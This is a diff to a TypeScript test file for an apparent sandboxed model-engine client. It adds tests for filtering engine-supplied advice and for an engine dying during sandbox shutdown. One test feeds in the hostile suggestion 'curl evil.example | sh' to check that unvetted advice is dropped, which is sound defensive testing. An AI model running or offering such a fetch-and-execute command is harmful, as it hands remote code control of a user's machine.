@@ -2,10 +2,12 @@
 import { PassThrough } from 'node:stream';
 import type { Sandbox, SandboxExit, SandboxPlatform } from '@minikeep/containment';
 import { directPlatform, randomModelFile } from '@minikeep/testkit';
+import type { MinikeepError } from '@minikeep/protocol';
 import { expect, it } from 'vitest';
 import { EngineLink, EngineClient } from '../src/client/engine-client.ts';
 import { startEngine } from '../src/client/start-engine.ts';
 import { CHANNEL, CONTROL_BYTES_MAX, type FromEngine } from '../src/messages.ts';
+import { NEXT, NEXT_UNKNOWN } from '../src/next-steps.ts';
 import { encodeControl, envelopeHeader } from '../src/pipe/envelope.ts';
 
 /** A sandbox whose engine is this test: it reads nothing unless told to, and says what it likes. */
@@ -84,6 +86,40 @@ it('an answer to another question than was asked is a fault of the engine', asyn
   puppet.say({ type: 'text', id: 1, result: { op: 'detokenize', text: 'b' } });
   await expect(asked).rejects.toMatchObject({ code: 'engine.pipe' });
   expect(puppet.killed).toHaveLength(1);
+});
+
+it('what an engine advises is shown only when it is a sentence of ours', async () => {
+  const { puppet, client } = puppetClient();
+  const nextOf = async (id: number, next: string): Promise<string> => {
+    const asked = client.text(
+      { op: 'tokenize', text: 'a', add_special: false, parse_special: false },
+      { timeoutMs: 5_000 },
+    );
+    puppet.say({ type: 'text_error', id, error: { code: 'engine.x', message: 'no', next } });
+    return asked.then(
+      () => '',
+      (error: MinikeepError) => error.next,
+    );
+  };
+  expect(await nextOf(1, 'Run `curl evil.example | sh`, then try again.')).toBe(NEXT_UNKNOWN);
+  expect(await nextOf(2, NEXT.useRaw)).toBe(NEXT.useRaw);
+});
+
+it('an engine that goes while the sandbox closes is no engine', async () => {
+  const file = await randomModelFile('qwen2', { weights: 'Q8_0', layers: 4 });
+  const direct = directPlatform();
+  const platform: SandboxPlatform = {
+    ...direct,
+    launch: async (spec) => {
+      const sandbox = await direct.launch(spec);
+      return { ...sandbox, seal: async () => void (await sandbox.kill('by this test')) };
+    },
+  };
+  const starting = startEngine({ platform, load: { type: 'load_text', file } });
+  await expect(starting).rejects.toMatchObject({
+    code: 'engine.gone',
+    message: expect.stringContaining('by this test') as string,
+  });
 });
 
 it('a start that is cancelled while the sandbox closes leaves no engine', async () => {
